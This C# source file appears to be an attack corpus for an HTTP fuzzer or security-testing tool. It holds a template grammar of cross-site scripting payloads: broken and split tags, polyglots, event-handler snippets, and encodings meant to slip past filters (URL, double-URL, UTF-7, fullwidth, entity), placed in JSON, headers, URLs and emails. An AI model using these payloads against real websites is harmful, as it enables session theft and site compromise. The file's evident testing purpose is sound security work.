namespace Weir.Http.Corpus.Attacks;

/// <summary>Tags that are not whole, one text for many places, bare expressions, carriers and encodings.</summary>
/// <remarks>OWASP WSTG-INPV-01, CAPEC-199, CAPEC-245, CWE-80, CWE-87.</remarks>
internal static class XssDisguise
{
    public const string Text = """"
        ¶ ---- tags that are not whole ----
        §brokentag
        2× <«sc»«¦/¦␠¦%20¦␤»>«jspart»
        <«img¦svg¦iframe»«/¦//¦\¦,¦;»«ev»=«jspart»«¦>»
        <<«sc»>«jspart»//<</«sc»>
        <img """><script>«jspart»</script>">
        <«%00¦%20¦\x00¦/¦?¦!¦#¦%¦<¦\¦␀»«sc»>«jspart»</«sc»>
        <«sc»>«jspart»</«sc»«¦<«letter»»
        \x3cscript\x3e«jspart»\x3c/script\x3e
        \u003cscript\u003e«jspart»\u003c/script\u003e
        \x3c«img src=x onerror=«jspart»»\x3e
        \u003cimg src=1 onerror=«jspart»\u003e
        &lt;script&gt;«jspart»&lt;/script&gt;
        &lt;img src=x onerror=«jspart»&gt;
        ＜script＞«jspart»＜/script＞
        ＜img src=x onerror=«jspart»＞
        ‹script›«jspart»‹/script›
        %uff1cscript%uff1e«jspart»%uff1c/script%uff1e
        %3Cscript%3E«jspart»%3C/script%3E
        %253Cscript%253E«jspart»%253C/script%253E
        +ADw-script+AD4-«jspart»+ADw-/script+AD4-
        ¼script¾«jspart»¼/script¾
        %BCscript%BE«jspart»%bc/script%BE
        <«scr»ipt>«jspart»</«scr»ipt>
        <sc<«script¦»>ript>«jspart»</sc</script>ript>
        <im<img>g src=x onerror=«jspart»>
        <!<script>«jspart»</script>
        <!--[if «gte IE 4¦IE¦true»]>«scripttag»<![endif]-->
        <!-- --«!¦»>«scripttag»<!-- -->
        <comment><img src="</comment>«imglit»">
        <![><img src="]>«imglit»">
        <? foo="><script>«jspart»</script>">
        <% foo><x foo="%>«scripttag»">
        </«letter»«gap»«ev»«eq»«jspart»>
        <//«letter» «ev»=«jspart»>
        <«letter»>«jspart»«ev»=«jspart»
        <script/«letter»>«jspart»
        <script>«jspart»</script
        <script«␤¦␉»«letter»=">"␤>«jspart»</script>
        «breakhtml»<SCRIPT «letter»=">" SRC="«evilurl»"></SCRIPT>
        <script ~~~>«jspart»</script ~~~>
        ><«sc»>«jspart»</«sc»>
        <%«hexdigit*2»script>«jspart»</script>
        §scr
        «scr%00¦scr\0¦scr␤¦scr␀¦s%0acr¦scr&#x09;»

        ¶ ---- one text for many places ----
        §polyglot
        «pstart»«pmid»«pend»
        «pstart»«pmid»«pmid»«pend»
        «pstart»«pend»
        «jq»;«run»//«jq»;«run»//\';«run»//";«run»//--></SCRIPT>">'><SCRIPT>«run»</SCRIPT>
        «"¦'»><«img src=x¦svg» «onerror¦onload»=«jspart»>«'¦"»><«script¦svg»«¦/onload=»«jspart»
        §pstart
        jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */«ev→case»=«jspart» )//
        javascript:«/*¦//»--></title></style></textarea></script>
        '">><marquee>«imglit»</marquee>
        «jq»"><«/¦»script>«jspart»//
        -->'"/></sCript>
        */«run»/*
        ';«run»//
        "'`--></«title¦style¦script»>
        `-«run»-`
        §pmid
        %0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>
        </«title¦textarea¦style¦script¦noscript¦select»>
        '"`>
        /*«"¦'»*/
        \x3csVg/<sVg/oNloAd=«jspart»//>\x3e
        *//*`/**/
        "onclick=«run»//<button ' onclick=«run»//> */ «run»//
        --></script>
        ">>
        §pend
        «eventtag»
        «scripttag»
        <svg/onload=«jspart»//
        <svg/<svg/onload=«jspart»//>
        \x3csvg onload=«jspart»\x3e

        ¶ ---- bare expressions, documents, carriers, encodings ----
        §jsexpr
        4× «jspart»
        «jspart»//
        eval(«run»)
        «exfil»
        <«letter»>«jspart»
        document.«cookie¦domain¦location¦write('«xssword»')¦body.innerHTML='«imglit»'»
        «window.¦»location«.href¦»=«"¦'»«scheme»«"¦'»
        «obscured»
        §shortxss
        3× «breakhtml»<«sc»>
        3× «ev»=«pop»(«shortarg»)
        3× «aq»«ev»=«pop»(«shortarg»)
        3× «jq»«jop»«pop»(«shortarg»)«jend»
        2× <«tagname»«gap»«ev»=«pop»(«shortarg»)
        2× «breakhtml»<«tagname»«gap»«ev»=
        2× <«tagname»/«ev»=«pop»`«shortarg»`>
        2× «jsword»:«pop»(«shortarg»)
        «breakhtml»<«sc» src=«scripturl»
        «breakhtml»</«sc2»>
        «aq»><«letter»«¦>»
        <«sc»>«pop»(«shortarg»
        <«letter» «ev»=«pop»(«shortarg»)
        «aq»><«xssword»>
        <«letter»/«letter»="«letter»"«ev»=«letter»>
        «pop»(«shortarg»)«¦;¦//»
        §shortarg
        «1¦«#0-99»¦'«xssword»'¦/«letter»/¦"«xssword»"¦document.«prop»»
        §docs
        <html><«body¦head»«gap»«ev»=«qjs»></«body¦head»></html>
        <html><body>«scripttag»</body></html>
        <htm«␤¦»l><«scripttag»
        <«word»>«scripttag»</«word»>
        <«b¦p¦div»>«word»</«b¦p¦div»>«eventtag»
        «word»«scripttag»«word»
        «word» «eventtag»
        §carriedxss
        3× {"«param»":"«any→json»"}
        3× «param»=«any»
        /«word»?«param»=«any→url»
        "«any»"
        filename="«any»"
        «word»@«word».com«any»
        "«any»"@«word».com
        Mozilla/5.0 «any»
        http://«word».com/«any»
        #«any»
        ?«any»
        {"«param»":"\u003cscript\u003e«run→json»\u003c/script\u003e"}
        §any
        4× «breakhtml»«scripttag»
        4× «breakhtml»«eventtag»
        2× «attrbreak»
        «jsbreakout»
        «scheme»
        §encodedxss
        3× «any→url»
        2× «any→urllower»
        «any→urltwice»
        «any→urlsome»
        «any→entdec»
        «any→enthex»
        «any→entlong»
        «any→percentu»
        «any→slashu»
        «any→slashx»
        «any→b64»
        «any→plus»
        «any→case»
        «any→entsome»
        """";
}
